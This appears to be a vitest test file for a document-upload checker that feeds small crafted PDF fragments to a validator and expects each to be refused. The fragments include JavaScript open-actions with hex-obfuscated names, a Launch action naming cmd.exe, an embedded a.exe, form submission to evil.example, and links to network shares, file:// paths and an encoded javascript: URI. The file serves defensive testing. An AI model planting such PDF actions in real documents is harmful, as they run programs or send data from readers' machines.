import { describe, expect, test } from 'vitest'
import { documentFiles } from '#schemas/files/upload-kinds.ts'
import { compressedObject, pdfWithCatalog, pdfWithObjects } from '../support/attacking-files.ts'
import { judgeBytes } from '../support/judge-bytes.ts'
import { updatedPdf } from '../support/upload-files.ts'

/** PDFs that would start or fetch something at their reader's are refused with the reason. */

describe('a PDF is refused', () => {
  const scripts = 'This PDF contains scripts.'
  const files = 'This PDF contains other files.'
  const starting = "This PDF runs, loads or sends something when it's opened or used."
  const film = 'This PDF contains audio, video or 3D.'
  const strange =
    'A link in this PDF goes somewhere other than the web, an email address or the document itself.'
  const action = (value: string) => `5 0 obj\n<< ${value} >>\nendobj\n`
  const opening = (...objects: string[]) => pdfWithCatalog('/OpenAction 5 0 R', ...objects)
  const linked = (value: string) =>
    pdfWithObjects(`4 0 obj\n[<< /Subtype /Link /A << ${value} >> >>]\nendobj\n`)

  test.each<[string, Buffer, string]>([
    [
      'that runs a script when it is opened',
      opening(action('/S /JavaScript /JS (app.alert(1))')),
      scripts,
    ],
    ['that writes its names in numbers', opening(action('/S /J#61vaScript /J#53 (a)')), scripts],
    [
      'that runs a script in its catalog',
      pdfWithCatalog('/OpenAction << /S /JavaScript /JS (a) >>'),
      scripts,
    ],
    ['that names scripts', pdfWithCatalog('/Names << /JavaScript 5 0 R >>'), scripts],
    ['that launches a program', opening(action('/S /Launch /F (cmd.exe)')), starting],
    [
      'that launches one after a page',
      opening(action('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch >>')),
      starting,
    ],
    [
      'that launches one at a page',
      pdfWithObjects(
        '7 0 obj\n<< /AA << /O 8 0 R >> >>\nendobj\n8 0 obj\n<< /S /Launch >>\nendobj\n',
      ),
      starting,
    ],
    [
      'whose action is compressed',
      opening(compressedObject(5, '<< /S /JavaScript /JS (a) >>')),
      scripts,
    ],
    [
      'whose catalog is compressed',
      pdfWithObjects(compressedObject(5, '<< /Names << /EmbeddedFiles 6 0 R >> >>')),
      files,
    ],
    [
      'whose type is an object of its own',
      opening(action('/S 6 0 R'), '6 0 obj\n/Launch\nendobj\n'),
      starting,
    ],
    [
      'with an action in a comment’s guise',
      opening('5 %a\n 0 obj\n<< /S /Launch >>\nendobj\n'),
      "This PDF contains something we don't accept: S.",
    ],
    [
      'that has the key twice',
      pdfWithCatalog('/OpenAction [3 0 R /Fit] /OpenAction << /S /Launch >>'),
      starting,
    ],
    ['whose action is replaced', updatedPdf(opening(action('/S /Launch'))), starting],
    [
      'with another kind of action',
      opening(action('/S /Teleport')),
      "This PDF contains something we don't accept: Teleport.",
    ],
    [
      'with a file in it',
      pdfWithObjects(action('/Type /Filespec /F (a.exe) /EF << /F 6 0 R >>')),
      files,
    ],
    [
      'with a file at a page',
      pdfWithObjects('4 0 obj\n[<< /Subtype /FileAttachment >>]\nendobj\n'),
      files,
    ],
    ['that is a portfolio', pdfWithCatalog('/Collection << >>'), files],
    ['that opens another document', linked('/S /GoToR /F (\\\\\\\\host\\\\a.pdf)'), starting],
    ['that names a file', pdfWithObjects(action('/Length 0 /F (\\\\\\\\host\\\\a)')), starting],
    ['that sends what is filled in', linked('/S /SubmitForm /F (https://evil.example)'), starting],
    [
      'with a form with scripts',
      pdfWithCatalog('/AcroForm << /XFA 5 0 R >>'),
      'This PDF contains a form with scripts (XFA).',
    ],
    ['with a film', pdfWithObjects('4 0 obj\n[<< /Subtype /RichMedia >>]\nendobj\n'), film],
    ['with a link to a share', linked('/S /URI /URI (\\\\\\\\host\\\\a)'), strange],
    ['with a link to a file', linked('/S /URI /URI (file:///c:/a.exe)'), strange],
    ['with a link to a script', linked('/S /URI /URI <6A6176617363726970743A61>'), strange],
    [
      'that compresses objects in an unusual way',
      pdfWithObjects(
        '9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 9 >>\nstream\n123456789\nendstream\nendobj\n',
      ),
      "This PDF is built in a way we can't check.",
    ],
    [
      'that is nested without end',
      pdfWithObjects(`5 0 obj\n${'['.repeat(1_000)}`),
      "This PDF is built in a way we can't check.",
    ],
  ])('%s', async (_, bytes, reason) => {
    expect(await judgeBytes(bytes)).toEqual([documentFiles.only, reason])
  })
})
